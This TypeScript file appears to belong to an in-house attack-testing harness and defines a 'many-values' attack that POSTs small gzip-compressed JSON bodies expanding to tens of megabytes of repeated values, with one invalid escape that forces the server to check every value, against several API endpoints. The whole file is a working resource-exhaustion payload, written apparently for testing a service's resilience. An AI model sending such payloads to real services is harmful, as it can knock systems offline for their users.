import { gzipSync } from 'node:zlib';
import { bearer } from '../../../http.ts';
import type { Attack } from '../../attack.ts';

export const manyValues: Attack = {
  name: 'many-values',
  sentence: 'a few packed kilobytes of millions of values, with one character that makes the server check all of them',
  patienceS: 10,
  async run(attacker) {
    const token = await attacker.strikers.token('integrator');
    const element = attacker.oneOf('0,', '[],', '{},', '"",', '1e9,');
    const targets = [
      { path: '/import/vehicle', bytes: 26_000_000 },
      { path: '/image/', bytes: 13_000_000 },
      { path: '/point_of_interest/', bytes: 4_900_000 },
      { path: '/auth/password/', bytes: 4_900_000 },
    ];
    for (const { path, bytes } of targets) {
      const text = `{"x":[${element.repeat(Math.floor(attacker.amount(bytes, 1000, bytes) / element.length))}0],"name":"a\\b"}`;
      const headers = { ...bearer(token), 'content-type': 'application/json', 'content-encoding': 'gzip' };
      await attacker.ask({ method: 'POST', path, headers, body: gzipSync(text) });
    }
  },
};
